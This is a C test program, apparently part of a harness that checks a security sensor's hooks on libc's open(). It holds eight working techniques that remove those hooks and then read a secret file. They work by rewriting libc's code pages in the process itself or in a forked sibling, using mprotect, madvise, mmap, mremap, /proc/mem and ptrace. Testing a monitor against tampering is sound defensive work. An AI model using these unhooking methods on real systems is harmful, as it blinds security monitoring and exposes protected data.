/* SPDX-License-Identifier: Apache-2.0 */
/* undoing TECHNIQUE: the patches of the sensor undone, in this process and in another. Each then opens the secret. */
#include "canary.h"

#include <dlfcn.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>

static uintptr_t page_of(const void *function)
{
	return (uintptr_t)function & ~(uintptr_t)4095;
}

/* What the file has at the place of libc's `function`: the code without the jumps. */
static void restore(uintptr_t page)
{
	Dl_info where;
	int fd;

	dladdr((void *)(page + 2048), &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!pread(fd, (void *)page, 4096, (off_t)(page - (uintptr_t)where.dli_fbase));
}

static void text_written(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	if (mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
		restore(page);
		restore(page + 4096);
	}
	show_file(SECRET);
}

static void text_given_back(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	(void)!madvise((void *)page, 8192, MADV_DONTNEED);
	show_file(SECRET);
}

static void map_again(int flags)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	Dl_info where;
	int fd;

	dladdr((void *)page, &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!mmap((void *)page, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE | flags, fd,
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	show_file(SECRET);
}

static void text_mapped_over(void)
{
	map_again(MAP_FIXED);
}

static void text_moved_over(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	void *fresh;
	Dl_info where;

	dladdr((void *)page, &where);
	fresh = mmap(NULL, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE, open(where.dli_fname, O_RDONLY),
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!mremap(fresh, 8192, 8192, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)page);
	show_file(SECRET);
}

static void text_by_proc_mem(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	char fresh[8192];
	Dl_info where;

	dladdr((void *)page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, sizeof(fresh), (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!pwrite(open("/proc/self/mem", O_RDWR), fresh, sizeof(fresh), (off_t)page);
	show_file(SECRET);
}

static pid_t start_sibling(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		usleep(200000);
		show_file(SECRET);
		_exit(0);
	}
	return pid;
}

/* The sibling's code is put back, so that it reads the secret when it wakes up. */
static void fresh_text(char *fresh, uintptr_t *page)
{
	Dl_info where;

	*page = page_of(dlsym(RTLD_DEFAULT, "open"));
	dladdr((void *)*page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, 8192, (off_t)(*page - (uintptr_t)where.dli_fbase));
}

static void sibling_by_vm_writev(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();
	struct iovec from = {fresh, sizeof(fresh)}, to;

	fresh_text(fresh, &page);
	to = (struct iovec){(void *)page, sizeof(fresh)};
	(void)!process_vm_writev(pid, &from, 1, &to, 1, 0);
	waitpid(pid, NULL, 0);
}

static void sibling_by_mem(void)
{
	char fresh[8192], name[64];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	(void)snprintf(name, sizeof(name), "/proc/%d/mem", pid);
	(void)!pwrite(open(name, O_RDWR), fresh, sizeof(fresh), (off_t)page);
	waitpid(pid, NULL, 0);
}

static void sibling_by_ptrace(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		waitpid(pid, NULL, 0);
		for (size_t i = 0; i < sizeof(fresh); i += 8) {
			long word;

			memcpy(&word, fresh + i, sizeof(word));
			ptrace(PTRACE_POKETEXT, pid, page + i, word);
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	waitpid(pid, NULL, 0);
}

static const struct technique techniques[] = {
        {"text-write", text_written},
        {"text-madvise", text_given_back},
        {"text-mmap", text_mapped_over},
        {"text-mremap", text_moved_over},
        {"text-mem", text_by_proc_mem},
        {"sibling-writev", sibling_by_vm_writev},
        {"sibling-mem", sibling_by_mem},
        {"sibling-ptrace", sibling_by_ptrace},
};

int main(int argc, char **argv)
{
	return run_technique(techniques, sizeof(techniques) / sizeof(techniques[0]), argc, argv);
}
